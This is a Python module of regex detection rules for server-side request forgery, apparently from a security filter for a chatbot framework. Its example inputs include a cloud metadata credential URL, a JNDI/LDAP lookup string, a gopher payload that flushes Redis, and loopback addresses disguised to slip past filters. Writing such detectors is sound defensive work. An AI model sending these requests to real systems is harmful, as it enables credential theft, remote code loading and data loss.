"""Server-side request forgery: cloud metadata endpoints, internal schemes and hosts."""

from __future__ import annotations

from typing import Tuple

from rasa_secure.core.injection.rules.base import (
    SSRF,
    Rule,
    Strength,
    define,
)

RULES: Tuple[Rule, ...] = (
    define(
        "ssrf.cloud_metadata",
        SSRF,
        r"169\.254\.169\.254|\bmetadata\.google\.internal\b|\bmetadata\.azure\.com\b|"
        r"100\.100\.100\.200|\bfd00:ec2::254\b|/latest/(?:meta-data|user-data|api/token)\b|"
        r"/computemetadata/v1\b|/metadata/(?:instance|identity)\b|\b2852039166\b|"
        r"\b0xa9\.?fe\.?a9\.?fe\b|a9fe:a9fe\b|\b0251\.0376\.0251\.0376\b|"
        r"169\.254\.170\.2\b|\b192\.0\.0\.192\b",
        Strength.STRONG,
        "169.254 metadata 100.100 fd00 /latest /computemetadata 2852039166 0xa9 a9fe 0251 "
        "192.0.0.192",
        "cloud instance and container metadata endpoints (credential theft through "
        "server-side requests)",
        examples=(
            "http://169.254.170.2/v2/credentials",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        ),
        counterexamples=("Where is the metadata of my last statement?",),
    ),
    define(
        "ssrf.scheme",
        SSRF,
        r"\b(?:gopher|dict|ldaps?|tftp|jar|netdoc)://",
        Strength.HIGH,
        "gopher:// dict:// ldap:// ldaps:// tftp:// jar:// netdoc://",
        "URL schemes used to reach internal services (gopher://, dict://)",
        examples=("${jndi:ldap://203.0.113.5/a}", "gopher://127.0.0.1:6379/_FLUSHALL"),
        counterexamples=("Our app opens links with the scheme mydict://open, is that safe?",),
    ),
    define(
        "ssrf.obfuscated_loopback",
        SSRF,
        r"\b(?:https?|ftp)://(?:[^/\s@]{1,64}@)?(?:0x7f[0-9a-f.]*|2130706433|0177\.0*\.0*\.0*1|"
        r"127\.1|0\.0\.0\.0|0|\[::\]|\[(?:0:){5}(?:0|ffff):[\w.:]+\]|\[::ffff:[\w.:]+\])"
        r"(?=[:/\s?#]|$)|\b(?:\d{1,3}[.-]){3}\d{1,3}\.(?:nip|sslip|xip)\.io\b",
        Strength.HIGH,
        ":// nip.io sslip.io xip.io",
        "loopback or any-address written to slip past filters (0x7f000001, 2130706433, "
        "[::ffff:127.0.0.1]), or an address behind a wildcard DNS name (127.0.0.1.nip.io)",
        examples=("http://0x7f000001/admin", "http://127.0.0.1.nip.io/admin"),
        counterexamples=(
            "what does file:// mean in my browser",
            "please check https://example.com/login.php? is it safe",
        ),
    ),
    define(
        "ssrf.internal_host",
        SSRF,
        r"\b(?:https?|ftp)://(?:[^/\s@]{1,64}@)?(?:localhost|127(?:\.\d{1,3}){3}|10(?:\.\d{1,3})"
        r"{3}|192\.168(?:\.\d{1,3}){2}|172\.(?:1[6-9]|2\d|3[01])(?:\.\d{1,3}){2}|\[::1\]|"
        r"[\w.-]+\.(?:internal|localdomain|local|intranet|corp|lan))(?=[:/\s?#]|$)",
        Strength.FLAGGING,
        "://",
        "a URL to this machine or a private network (flag: developers paste such URLs too; an "
        "action that fetches URLs must refuse them)",
        examples=(
            "http://ip-10-0-0-5.ec2.internal/secrets",
            "https://localhost:5005/webhooks/rest/webhook",
        ),
        counterexamples=(
            "please check https://example.com/login.php? is it safe",
            "Is https://bank-secure-login.example/verify?page=1 a phishing link?",
        ),
    ),
)
